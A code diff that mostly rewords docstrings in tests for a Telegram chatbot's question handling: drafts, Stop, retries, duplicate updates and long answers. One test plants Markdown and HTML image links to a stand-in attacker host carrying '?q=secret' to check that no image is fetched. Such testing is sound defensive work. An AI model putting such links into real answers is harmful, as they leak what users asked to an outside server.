@@ -1,4 +1,4 @@
-"""Questions in the chat: the draft, the answer, Stop, and whatever Telegram does meanwhile.
+"""Questions in the chat: the draft, the answer, Stop, and Telegram's failures.
 
 Exercises backend/bot/handlers/ask.py.
 """
@@ -49,13 +49,14 @@ async def undelivered(chat: BotChat) -> int:
 
 
 async def most_attempts(chat: BotChat) -> int:
-    """How often the update that failed most had to be tried."""
+    """The number of attempts of the update that failed most."""
     async with chat.app.container.database.snapshot() as db:
         return int((await db.execute(sa.select(sa.func.max(bot_updates.c.attempts)))).scalar_one())
 
 
 async def test_a_question_gets_a_draft_then_a_rich_message_with_a_button(ann: BotChat) -> None:
-    """The draft is there while it is written, is gone with the answer, and comes in one piece."""
+    """The draft is shown while the answer is written, goes with it, and the answer is one
+    message."""
     ann.answers("**Bold** words, and `code`.\n\n- one\n- two " + WORDS, pace=0.03)
     await ann.say("Tell me")
     await until(lambda: any("word" in str(draft) for draft in ann.drafts))
@@ -74,7 +75,8 @@ async def test_a_question_gets_a_draft_then_a_rich_message_with_a_button(ann: Bo
 
 
 async def test_a_chat_is_one_conversation_until_new(ann: BotChat) -> None:
-    """What was said before is sent along; /new begins another, and both are in the app."""
+    """Earlier messages are sent along; /new starts another conversation, and both are in the
+    app."""
     for question in ("One?", "Two?", "/new", "Three?"):
         await ann.ask(question)
         await ann.quiet()
@@ -90,8 +92,8 @@ async def test_a_chat_is_one_conversation_until_new(ann: BotChat) -> None:
 
 
 async def test_it_goes_on_where_the_app_is_and_survives_deletion_there(ann: BotChat) -> None:
-    """The next question hangs below what was said in the app; if the conversation was deleted
-    there, it begins another."""
+    """The next question follows what was said in the app; if the conversation was deleted there, it
+    starts another."""
     await ann.ask("In the chat?")
     await ann.quiet()
     client = await ann.app.sign_in()
@@ -111,7 +113,7 @@ async def test_it_goes_on_where_the_app_is_and_survives_deletion_there(ann: BotC
 
 
 async def test_two_questions_at_once_are_answered_in_order(ann: BotChat) -> None:
-    """The second waits for the first, and knows of it."""
+    """The second question waits for the first, and its answer knows the first."""
     ann.answers(WORDS, pace=0.01)
     await ann.say("First?")
     await ann.say("Second?")
@@ -124,7 +126,7 @@ async def test_two_questions_at_once_are_answered_in_order(ann: BotChat) -> None
 
 
 async def test_stop_sends_what_there_is(ann: BotChat) -> None:
-    """Stop on the draft ends the run; its text so far becomes the message, and no draft stays."""
+    """Stop on the draft ends the run; the text so far becomes the message, and no draft remains."""
     ann.answers(WORDS, pace=0.2)
     await ann.say("Go on for long")
     await until(lambda: any("word1" in str(draft) for draft in ann.drafts))
@@ -137,7 +139,7 @@ async def test_stop_sends_what_there_is(ann: BotChat) -> None:
 
 
 async def test_stop_before_the_first_word(ann: BotChat) -> None:
-    """There is nothing to send then, and the chat goes on."""
+    """Stopped before any text, nothing is sent, and the chat continues."""
     ann.answers(WORDS, pace=1.0)
     await ann.say("Go on for long")
     await until(lambda: ann.drafts)
@@ -148,8 +150,8 @@ async def test_stop_before_the_first_word(ann: BotChat) -> None:
 
 
 async def test_ends_that_are_not_the_end_are_said(ann: BotChat) -> None:
-    """An answer that breaks off, is cut at its limit, or does not begin at all is followed by
-    plain words."""
+    """An answer that breaks off, reaches its limit, or does not start at all is followed by an
+    explanation."""
     client = await ann.app.sign_in()
     ends = {
         "simulated-interruption": "was cut off",
@@ -169,7 +171,7 @@ async def test_ends_that_are_not_the_end_are_said(ann: BotChat) -> None:
 async def test_refusals_are_said_and_the_chat_goes_on(
     ann: BotChat, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """When the day's messages are used up, that is said, not passed over."""
+    """When the day's messages are used up, the person is told."""
     for _ in range(20):
         await ann.ask("Again?")
     refused = await ann.ask("And again?")
@@ -179,7 +181,7 @@ async def test_refusals_are_said_and_the_chat_goes_on(
 
 
 async def test_updates_twice_late_and_out_of_order(ann: BotChat) -> None:
-    """Each question is answered once, whatever Telegram does with its updates."""
+    """Each question is answered once, even if Telegram repeats or reorders updates."""
     await ann.act(SetUpdateFault("twice"))
     await ann.act(SetUpdateFault("late", seconds=1))
     await ann.act(SetUpdateFault("outOfOrder"))
@@ -196,8 +198,8 @@ async def test_updates_twice_late_and_out_of_order(ann: BotChat) -> None:
 async def test_telegram_fails_while_it_is_sent(
     ann: BotChat, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """Telegram is waited for and asked again; each answer comes once, and nothing is tried again
-    by the inbox."""
+    """A request that Telegram asks to delay is repeated later; each answer comes once, and the
+    inbox retries nothing."""
     monkeypatch.setattr(retries, "RETRY_DELAYS", (0.05, 0.1, 0.2))
     monkeypatch.setattr(drafts, "PAUSE_SECONDS", 0.2)
     ann.answers("- " + WORDS, pace=0.01)
@@ -213,8 +215,8 @@ async def test_telegram_fails_while_it_is_sent(
 
 
 async def test_no_answer_from_telegram(ann: BotChat, monkeypatch: pytest.MonkeyPatch) -> None:
-    """A call whose answer never comes is made again: rather twice than not at all. A draft is
-    not waited for."""
+    """A call without a response is repeated: a duplicate is better than a lost answer. Drafts are
+    not repeated."""
     monkeypatch.setattr(messages, "SECONDS", 1)
     monkeypatch.setattr(drafts, "SECONDS", 1)
     ann.answers("- An answer.")
@@ -226,7 +228,8 @@ async def test_no_answer_from_telegram(ann: BotChat, monkeypatch: pytest.MonkeyP
 
 
 async def test_telegram_is_away_for_longer(ann: BotChat, monkeypatch: pytest.MonkeyPatch) -> None:
-    """When patience ends the inbox tries again later, and the next message is not held up."""
+    """When those retries are used up, the inbox retries later, and the next message is not
+    delayed."""
     monkeypatch.setattr(retries, "RETRY_DELAYS", (0.01,))
     ann.app.container.bot.inbox.handling.pauses = (3.0,)
     ann.answers("- An answer.")
@@ -244,8 +247,8 @@ async def test_telegram_is_away_for_longer(ann: BotChat, monkeypatch: pytest.Mon
 async def test_a_retry_joins_its_run_though_the_chat_has_gone_on(
     ann: BotChat, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """A question that could not be answered is tried again after the next one was answered: it
-    still gets its own answer."""
+    """A question whose answer failed is retried after the next one was answered, and still gets its
+    own answer."""
     monkeypatch.setattr(retries, "RETRY_DELAYS", ())
     ann.app.container.bot.inbox.handling.pauses = (2.0,)
     await ann.act(SetApiFault("serverError", method="sendRichMessage"))
@@ -259,7 +262,7 @@ async def test_a_retry_joins_its_run_though_the_chat_has_gone_on(
 
 
 async def test_whoever_blocked_the_bot_is_let_go(ann: BotChat) -> None:
-    """Blocked in the middle of an answer: nothing fails, nothing is tried again."""
+    """If the person blocks the bot during an answer, nothing fails and nothing is retried."""
     ann.answers(WORDS, pace=0.03)
     await ann.say("Well?")
     await until(lambda: ann.drafts)
@@ -271,7 +274,7 @@ async def test_whoever_blocked_the_bot_is_let_go(ann: BotChat) -> None:
 
 
 async def test_long_answers_come_in_pieces_with_their_buttons(ann: BotChat) -> None:
-    """Nothing is lost, and the buttons are below the last."""
+    """A long answer comes in several messages without loss, with the buttons below the last."""
     text = "\n\n".join(f"Paragraph {number}: " + "words " * 30 for number in range(260))
     ann.answers(text, pace=0)
     await ann.say("At length, please")
@@ -285,7 +288,7 @@ async def test_long_answers_come_in_pieces_with_their_buttons(ann: BotChat) -> N
 
 
 async def test_what_telegram_would_not_take_has_another_form(ann: BotChat) -> None:
-    """A table of too many columns comes as code, every cell in it."""
+    """A table with too many columns comes as code, with every cell."""
     row = "|" + "|".join(f" c{number} " for number in range(25)) + "|"
     line = "|" + "---|" * 25
     ann.answers(f"See https://example.org/\n\n{row}\n{line}\n{row}")
@@ -296,7 +299,7 @@ async def test_what_telegram_would_not_take_has_another_form(ann: BotChat) -> No
 
 
 async def test_an_arabic_answer_reads_from_right_to_left(ann: BotChat) -> None:
-    """By its own letters, whatever language the person's Telegram has."""
+    """The direction of an answer follows its own letters, not the language of Telegram."""
     ann.answers("الجواب هو K2، وارتفاعه 8611 مترا.")
     assert (await ann.ask("?"))["rich_message"].get("is_rtl") is True
     ann.answers("- The answer is K2 (بالعربية).")
@@ -304,8 +307,8 @@ async def test_an_arabic_answer_reads_from_right_to_left(ann: BotChat) -> None:
 
 
 async def test_nothing_in_an_answer_is_fetched(ann: BotChat) -> None:
-    """No image, by Markdown or HTML, in the draft or in the answer: it would tell its server
-    what was asked."""
+    """Neither Markdown nor HTML makes Telegram load an image, in drafts or answers, since that
+    would tell the image's server what was asked."""
     ann.answers(
         "Look: ![x](https://evil.example/?q=secret)\n\n"
         '<img src="https://evil.example/a.png"/>\n\n<video src="https://evil.example/b.mp4"/>\n\n'
@@ -322,7 +325,8 @@ async def test_nothing_in_an_answer_is_fetched(ann: BotChat) -> None:
 
 
 async def test_the_draft_keeps_within_telegrams_rate(ann: BotChat) -> None:
-    """About one call a second, however fast the model writes, and none after the answer."""
+    """Drafts take about one call a second, however fast the model writes, and stop with the
+    answer."""
     ann.answers("- " + " ".join([WORDS] * 5), pace=0.01)
     started = datetime.now(UTC)
     await ann.ask("Well?")
@@ -335,8 +339,8 @@ async def test_the_draft_keeps_within_telegrams_rate(ann: BotChat) -> None:
 
 
 async def test_hand_off_is_for_the_app_alone(ann: BotChat) -> None:
-    """An answer asked for in the app that nobody watched comes to the chat once, with a button;
-    not if the person turned that off."""
+    """An answer asked for in the app that nobody watched comes to the chat once, with a button,
+    unless the person turned that off."""
     container = ann.app.container
     ann.answers(WORDS, pace=0.02)
     for wanted in (True, False):
@@ -353,8 +357,8 @@ async def test_hand_off_is_for_the_app_alone(ann: BotChat) -> None:
 
 
 async def test_a_reply_goes_on_in_the_answers_conversation(ann: BotChat) -> None:
-    """A reply in the chat to an answer that was handed off goes on in its conversation, not in
-    the chat's own; what comes after it does too."""
+    """A reply in the chat to a handed-off answer continues that answer's conversation, and so does
+    what follows."""
     container = ann.app.container
     await ann.ask("In the chat?")
     ann.answers(WORDS, pace=0.02)
@@ -384,7 +388,7 @@ async def leave_after_first_event(client: Client) -> None:
 
 
 async def test_a_blocked_bot_hands_nothing_off(ann: BotChat) -> None:
-    """The answer is kept in the app; nobody is tried again."""
+    """When the chat is closed the answer stays in the app, and delivery is not retried."""
     container = ann.app.container
     ann.answers(WORDS, pace=0.02)
     await leave_after_first_event(await ann.app.sign_in())
@@ -398,7 +402,7 @@ async def test_a_blocked_bot_hands_nothing_off(ann: BotChat) -> None:
 
 
 def test_a_questions_id_is_its_own() -> None:
-    """The same message gives the same UUIDv7; another chat, message or moment another one."""
+    """The same message gives the same UUIDv7; another chat, message or time gives another."""
     at = datetime(2026, 11, 23, tzinfo=UTC)
     ids = {
         question_id(1, 1, at),
@@ -413,7 +417,7 @@ def test_a_questions_id_is_its_own() -> None:
 
 
 async def test_texts_of_commands_are_no_commands(ann: BotChat) -> None:
-    """A question that begins with a slash or mentions a command is a question."""
+    """A question that starts with a slash or mentions a command is still a question."""
     await ann.act(SendText(ANN, "/etc/passwd: what is it?"))
     await ann.until(2)
     assert ann.said()[1] == "An answer."
